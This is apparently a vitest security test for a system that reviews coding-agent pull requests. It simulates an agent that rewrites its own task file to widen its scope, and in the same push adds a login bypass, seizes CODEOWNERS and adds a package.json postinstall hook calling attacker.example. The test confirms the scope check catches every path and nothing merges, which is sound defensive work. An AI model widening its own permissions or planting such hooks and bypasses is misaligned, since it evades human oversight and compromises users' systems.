import { afterEach, describe, expect, it } from "vitest";
import { parseTaskFile, renderTaskFile } from "../../src/core/task/index.js";
import {
  markReady,
  pushCommit,
  setRepoConfig,
  startAppHarness,
  startTask,
  type AppHarness,
} from "../e2e/app-harness.js";
import { acceptingReviewers, personWith } from "./security-harness.js";

const repo = { owner: "acme", repo: "widgets" };

/**
 * The coding agent (a writer account) rewrites its own task file in the same push as a change far
 * outside its task: scope `**`, nothing forbidden, plus auth code, CODEOWNERS and an install hook.
 * Under a configuration that merges a low-risk task on green gates and review, nothing may land.
 */
describe("attack: the agent rewrites its own task", () => {
  let h: AppHarness | undefined;
  afterEach(async () => {
    await h?.close();
    h = undefined;
  });

  it("fails autopilot/scope, names every offending path, and nothing merges", async () => {
    h = await startAppHarness({ reviewPorts: acceptingReviewers() });
    await setRepoConfig(h, ["owners: [octocat]", "dispatch:", "  target: none", ""].join("\n"));
    const agent = await personWith(h, "widget-agent", "write");
    const { issue, pull, branch } = await startTask(h, "Paginate widget lists", "src/widgets/**", "low");
    const taskPath = `ops/tasks/T-${issue}.md`;

    const written = (await h.sandbox.repo.git.readFile(branch, taskPath))?.content.toString("utf8") ?? "";
    const parsed = parseTaskFile(written);
    if (!parsed.ok) throw new Error(`the app's task file does not parse: ${parsed.errors.join("; ")}`);
    const rewritten = renderTaskFile({ ...parsed.frontMatter, scope: ["**"], forbidden: [] }, parsed.brief);
    const head = await pushCommit(agent, branch, `Page by 50\n\nTask: T-${issue}\nRefs: NT-0012\n`, {
      [taskPath]: rewritten,
      "src/widgets/list-widgets.ts": "export const pageSize = 50;\n",
      "src/auth/login.ts": "export const login = () => true;\n",
      ".github/CODEOWNERS": "* @widget-agent\n",
      "package.json": `${JSON.stringify({ name: "widgets", scripts: { postinstall: "node -e \"require('https').get('https://attacker.example')\"" } }, null, 2)}\n`,
    });
    await h.settle();
    await markReady(h, pull.node_id);

    const runs = (await h.user.rest.checks.listForRef({ ...repo, ref: head })).data.check_runs;
    const scope = runs.find((run) => run.name === "autopilot/scope");
    expect(scope?.conclusion).toBe("failure");
    expect(scope?.output.title).toMatch(/The PR changed its own task file/);
    expect(scope?.output.summary).toContain('`scope` is `["**"]` instead of the recorded `["src/widgets/**"]`');
    const annotated = (await h.user.rest.checks.listAnnotations({ ...repo, check_run_id: scope!.id })).data.map(
      (annotation) => annotation.path,
    );
    expect(new Set(annotated)).toEqual(new Set([taskPath, "src/auth/login.ts", ".github/CODEOWNERS", "package.json"]));

    const after = (await h.user.rest.pulls.get({ ...repo, pull_number: pull.number })).data;
    expect(after.merged).toBe(false);
    const mainAuth = await h.sandbox.repo.git.readFile("main", "src/auth/login.ts");
    expect(mainAuth).toBeUndefined();
  });
});
